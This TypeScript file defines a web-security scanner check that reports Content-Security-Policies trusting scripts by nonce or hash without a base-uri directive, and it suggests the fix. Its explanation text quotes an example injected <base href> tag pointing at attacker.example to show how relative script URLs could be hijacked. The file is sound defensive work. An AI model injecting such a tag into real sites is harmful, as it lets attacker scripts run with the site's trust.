import type { Check } from "../../core/index.ts";
import {
  baseUriMissing,
  cspStatus,
  describePolicies,
  DocumentCsps,
  metaExcerpt,
} from "../../artifacts/index.ts";
import { CSP_CWE, CSP_REFERENCES, CVSS_CSP_GAP, cspFixes } from "./shared.ts";
import { documentDraft } from "./document-draft.ts";

export const cspMissingBaseUri: Check = {
  meta: {
    id: "headers.csp-missing-base-uri",
    title: "The nonce-based Content-Security-Policy does not restrict <base> (base-uri)",
    cvss: CVSS_CSP_GAP,
    cwe: CSP_CWE,
    references: CSP_REFERENCES,
    explanation:
      "The policy trusts scripts by nonce (or by hash with `'strict-dynamic'`) but has no `base-uri`. An attacker who can inject a `<base href=\"https://attacker.example/\">` tag " +
      'changes where every relative script URL on the page points, and your own nonced `<script src="/app.js">` then loads their file with your nonce. ' +
      "(`base-uri` does not fall back to `default-src`. A policy that allows scripts only by host is not reported: the attacker's host would not be allowed.)",
    fixes: cspFixes(
      "Add `base-uri 'none'` (or `base-uri 'self'` if the site uses a `<base>` tag) to the policy.",
    ),
    learn: "content-security-policy#csp-missing-base-uri",
    needs: [DocumentCsps],
  },
  analyse(artifacts) {
    return artifacts.read(DocumentCsps).flatMap((doc) => {
      if (cspStatus(doc) !== "present" || !baseUriMissing(doc)) return [];
      return [
        documentDraft(
          doc.document,
          `${doc.document.url}: the Content-Security-Policy uses nonces or hashes but sets no base-uri.`,
          "No enforced policy restricts <base>, and the script rules rely on nonces or hashes.",
          ["content-security-policy"],
          { directive: "base-uri", policies: describePolicies(doc.enforced) },
          metaExcerpt(doc),
        ),
      ];
    });
  },
};
